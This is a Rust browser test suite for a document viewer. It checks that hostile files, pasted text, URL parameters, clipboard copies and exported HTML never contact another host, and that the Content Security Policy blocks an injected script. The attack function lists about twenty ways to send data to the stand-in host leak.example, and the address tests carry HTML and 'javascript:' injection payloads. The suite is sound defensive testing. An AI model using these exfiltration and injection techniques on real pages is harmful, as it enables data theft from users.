//! Every way out of the page, tried from letters, names, addresses, exports and scripts, under both
//! policies: nothing reaches another host.

use crate::hostile::{self, HOST};
use fuhan_browser::{Page, Place, Setup, story};
use serde_json::json;
use std::fs;

/// Everything on the page that would load, send or run something of the other host, but for links
/// that a person follows to another tab, which there are for a web page's own address alone, and
/// our own bookmark.
const REACHING: &str = "const found = []; \
    for (const own of document.querySelectorAll('*')) for (const { name, value } of own.attributes) { \
      const link = own.localName === 'a' && name === 'href'; \
      const apart = link && own.target === '_blank' && own.relList.contains('noopener') \
        && own.protocol.startsWith('http'); \
      const inside = link && (own.getAttribute('href').startsWith('#') \
        || own.matches('.start-bookmark')); \
      const said = ['title', 'value', 'placeholder', 'content', 'class', 'id'].includes(name) \
        || /^(data|aria)-/.test(name) || name === 'style' && !/url\\(/i.test(value); \
      if (!apart && !inside && !said && /leak\\.example|javascript:|^on/i.test(name + ' ' + value)) \
        found.push(own.localName + ' ' + name + '=' + value); } \
    for (const own of document.querySelectorAll('img, iframe, object, embed, video, audio, form, base')) \
      found.push(own.localName); \
    return found";

/// Looks at everything that a letter shows: both versions of its text, every tab, every link inside.
fn look_around(page: &Page) {
    for view in ["原文", "整理"] {
        page.click_named(".bar .segmented > *", view);
        page.rest();
        assert_eq!(page.run(REACHING, &[]), json!([]), "{view}");
    }
    for tab in ["表格", "图", "算", "校对", "信息", "证据"] {
        page.click_named(".inspector [role=tab]", tab);
        page.rest();
        assert_eq!(page.run(REACHING, &[]), json!([]), "{tab}");
    }
    let here = page.run("return location.href.split('#')[0]", &[]);
    page.run("document.querySelectorAll('#reader a').forEach(link => link.click())", &[]);
    page.rest();
    assert_eq!(page.run("return location.href.split('#')[0]", &[]), here, "a link led away");
}

/// Opens each hostile file on the page as it lies at an address.
fn open_all(page: &Page) {
    for (name, bytes) in hostile::files() {
        page.go(&page.url());
        page.wait(".start");
        page.drop_files(&[(&name, &bytes)]);
        page.wait_until("return !!document.querySelector('#letterhead, .banner')");
        assert_eq!(page.run(REACHING, &[]), json!([]), "{name}");
        if page.count("#letterhead") > 0 {
            look_around(page);
        } else {
            assert!(name.ends_with(".svg"), "{name}: {}", page.text(".banner"));
        }
    }
}

/// What a script would do that had got into the page after all. Over http, where the catcher sees the
/// request itself: for a frame or a form Chromium opens a connection before it asks the policy, and
/// with https no more than that could be seen.
fn attack(page: &Page) {
    page.run_async(
        "const to = way => 'http://leak.example/' + way; \
         const element = (name, set) => document.body.append(Object.assign(document.createElement(name), set)); \
         const ways = [ \
           () => fetch(to('fetch'), { mode: 'no-cors' }).catch(() => 0), \
           () => navigator.sendBeacon(to('beacon'), 'a'), () => new WebSocket('ws://leak.example/'), \
           () => new EventSource(to('events')), () => { new Image().src = to('image'); }, \
           () => { const asked = new XMLHttpRequest(); asked.open('GET', to('xhr')); asked.send(); }, \
           () => import(to('module')).catch(() => 0), () => new Worker(to('worker')), \
           () => element('iframe', { src: to('frame') }), () => element('object', { data: to('object') }), \
           () => element('link', { rel: 'stylesheet', href: to('sheet') }), \
           () => element('link', { rel: 'prefetch', href: to('prefetch') }), \
           () => element('link', { rel: 'preload', as: 'image', href: to('preload') }), \
           () => element('link', { rel: 'manifest', href: to('manifest') }), \
           () => element('video', { src: to('video') }), \
           () => element('svg', { innerHTML: '<image href=http://leak.example/svg />' }), \
           () => document.body.style.setProperty('background', 'url(' + to('style') + ')'), \
           () => new FontFace('a', 'url(' + to('font') + ')').load().catch(() => 0), \
           () => { const form = document.createElement('form'); form.action = to('form'); \
                   form.method = 'post'; document.body.append(form); form.submit(); }, \
         ]; \
         for (const way of ways) try { await way(); } catch (_) { /* refused at once */ } \
         await new Promise(requestAnimationFrame);",
        &[],
    );
    page.rest();
}

#[test]
fn nothing_in_a_letter_or_its_name_reaches_another_host() {
    story(Setup::default(), open_all);
}

#[test]
fn nothing_in_a_letter_reaches_another_host_from_the_page_in_one_file() {
    story(Setup { place: Place::Disk, ..Setup::default() }, open_all);
}

#[test]
fn nothing_that_is_pasted_or_stands_in_an_address_reaches_another_host() {
    story(Setup::default(), |page| {
        page.wait(".start");
        page.paste("a", Some(&hostile::page()));
        page.wait_text("#letterhead h1", "第8号建议");
        look_around(page);
        let markup = format!("%3Cimg%20src=https://{HOST}/hash%3E");
        for address in [
            format!("#q={markup}&p={markup}"),
            format!("#t=1&r={markup}&c={markup}"),
            format!("#s=javascript:fetch('https://{HOST}')"),
            format!("?src=https://{HOST}/src&tab={markup}&theme={markup}&lang=//{HOST}"),
            format!("?src=//{HOST}/src&embed=1&receive=1"),
            format!("?src={HOST}%2F..%2Fsamples%2Fshort.txt#c={markup}"),
        ] {
            page.go("about:blank");
            page.go(&format!("{}{address}", page.url()));
            page.wait_until("return !!document.querySelector('.start, #letterhead')");
            page.rest();
            assert_eq!(page.run(REACHING, &[]), json!([]), "{address}");
        }
    });
}

#[test]
fn what_is_copied_and_saved_reaches_no_other_host_where_it_is_opened() {
    story(Setup::default(), |page| {
        page.wait(".start");
        page.drop_files(&[("函.html", hostile::page().as_bytes())]);
        page.wait_text(".outline-foot", "条可核对");
        page.click("#tab-table");
        page.click_named(".table-tools .button", "复制");
        page.wait_text(".notice", "复制");
        let copied = page.clipboard("text/html");
        assert!(copied.contains("<table") && !copied.contains("<img"), "{copied}");
        assert!(!page.clipboard("text/plain").contains("\t=HYPERLINK"), "a formula");
        page.click("#export-button");
        page.click_named(".export-item", "网页（正文和核对）");
        let (name, bytes) = page.download(".html");
        let folder = xtask::root().join("target/tmp/outward");
        fs::create_dir_all(&folder).expect("a folder");
        let file = folder.join("exported.html");
        fs::write(&file, bytes).expect(&name);
        page.go(&format!("file://{}", file.display()));
        page.wait("h1");
        page.rest();
        assert_eq!(page.run(REACHING, &[]), json!([]));
    });
}

#[test]
fn the_policy_of_either_page_stops_whatever_a_script_would_try() {
    for place in [Place::Host, Place::Disk] {
        let page = Page::open(Setup { place, ..Setup::default() });
        page.wait(".start");
        attack(&page);
        // The console names what was refused; what counts is that nothing left the browser.
        assert_eq!(page.left(), Vec::<String>::new(), "{place:?}");
        assert!(
            page.console_errors().iter().any(|error| error.contains("Content Security Policy"))
        );
    }
}
